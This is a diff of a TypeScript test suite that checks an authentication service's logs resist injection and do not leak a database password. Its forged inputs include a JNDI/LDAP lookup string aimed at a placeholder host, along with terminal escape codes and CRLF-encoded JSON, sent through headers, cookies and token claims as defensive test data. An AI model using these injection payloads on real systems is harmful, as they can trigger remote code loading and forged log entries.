@@ -17,7 +17,7 @@ const FORGERIES = [
   `${MARK}\u001b[2K\u001b[1A`,
   `${MARK}\u2028\u0085${MARK}`,
   `${MARK}%0a%0d{"message":"x"}`,
-  '${jndi:ldap://f0rged.example/x}',
+  `$\{jndi:ldap://${MARK}.example/x}`,
 ];
 const METRICS_TOKEN = randomBytes(24).toString('base64url');
 
@@ -61,17 +61,28 @@ describe('the log', () => {
       const browser = new Browser(programs.stage.service.url);
       const ascii = forged.replaceAll(/[^\x20-\x7e]/g, '');
       // A request id of the right form is the caller's own name for the request; this one never is.
-      const headers = { 'user-agent': ascii, 'x-request-id': `"${ascii}`, traceparent: ascii, 'x-forwarded-for': ascii };
+      const headers = {
+        'user-agent': ascii,
+        'x-request-id': `"${ascii}`,
+        traceparent: ascii,
+        'x-forwarded-for': ascii,
+      };
       await browser.request(`/api/v1/auth/login?${query('loginHint')}`, { headers });
       await browser.request(`/api/v1/auth/login?${query('returnTo')}`);
       await browser.request(`/api/v1/auth/callback?${query('state')}&code=x`);
       await browser.request(`/api/v1/auth/callback?state=x&${query('error')}&${query('error_description')}`);
-      await browser.request(`/api/v1/${encodeURIComponent(forged)}`, { headers: { cookie: `blindspotx-session=${ascii}` } });
+      await browser.request(`/api/v1/${encodeURIComponent(forged)}`, {
+        headers: { cookie: `blindspotx-session=${ascii}` },
+      });
       await programs.clientCredentials({ ...program, id: forged });
       await programs.clientCredentials({ ...program, secret: forged });
       await programs.form('token', { grant_type: forged, client_id: forged, scope: forged });
       await programs.byAssertion(key.assertion(forged, { jti: forged }, { kid: forged }));
-      await programs.clientCredentials(program, {}, { dpop: key.proof('POST', forged, undefined, {}, { kid: forged }) });
+      await programs.clientCredentials(
+        program,
+        {},
+        { dpop: key.proof('POST', forged, undefined, {}, { kid: forged }) },
+      );
       const plans: Partial<TokenPlan>[] = [
         { header: { kid: forged } },
         { claims: { tid: forged } },
@@ -82,7 +93,9 @@ describe('the log', () => {
         const token = tenant.mintToken({ kind: 'api', objectId, ...plan });
         await programs.get('/users/me', { authorization: `Bearer ${token}` });
         await programs.exchange(token);
-        await programs.form('backchannel-logout', { logout_token: tenant.mintToken({ kind: 'logout', sid: 'x', ...plan }) });
+        await programs.form('backchannel-logout', {
+          logout_token: tenant.mintToken({ kind: 'logout', sid: 'x', ...plan }),
+        });
       }
       await signInWith(programs.stage, programs.stage.person(1).upn, { claims: { iss: forged } });
     }
@@ -115,9 +128,10 @@ describe('the log', () => {
     expect(requestsLogged()).toBeGreaterThan(before);
     for (const line of logged()) expect(JSON.stringify(line)).not.toContain(MARK);
     // On record the name stays readable, as one text of one record.
-    const [row] = await programs.stage.sql<{ n: number }>('SELECT count(*)::int AS n FROM users WHERE display_name LIKE $1', [
-      `${MARK}%`,
-    ]);
+    const [row] = await programs.stage.sql<{ n: number }>(
+      'SELECT count(*)::int AS n FROM users WHERE display_name LIKE $1',
+      [`${MARK}%`],
+    );
     expect(row?.n).toBe(1);
   });
 
@@ -171,8 +185,13 @@ describe('the log', () => {
 
   it('SpiceDB CVE-2026-40091: what the process says when the database refuses it names no password', async () => {
     const password = `p${randomBytes(12).toString('hex')}`;
-    const env = { ...environmentOf(programs.stage.tenant), PROCESS_ROLE: 'api', MIGRATE_ON_START: 'false', LOG_LEVEL: 'trace' };
-    for (const address of ['127.0.0.1:1/x', new URL(programs.stage.service.databaseUrl).host + '/no_such_database']) {
+    const env: Record<string, string> = {
+      ...environmentOf(programs.stage.tenant),
+      PROCESS_ROLE: 'api',
+      MIGRATE_ON_START: 'false',
+      LOG_LEVEL: 'trace',
+    };
+    for (const address of ['127.0.0.1:1/x', `${new URL(programs.stage.service.databaseUrl).host}/no_such_database`]) {
       const DATABASE_URL = `postgres://nobody:${password}@${address}`;
       const said = await spawnService({ ...env, DATABASE_URL }).then(
         () => 'it started',
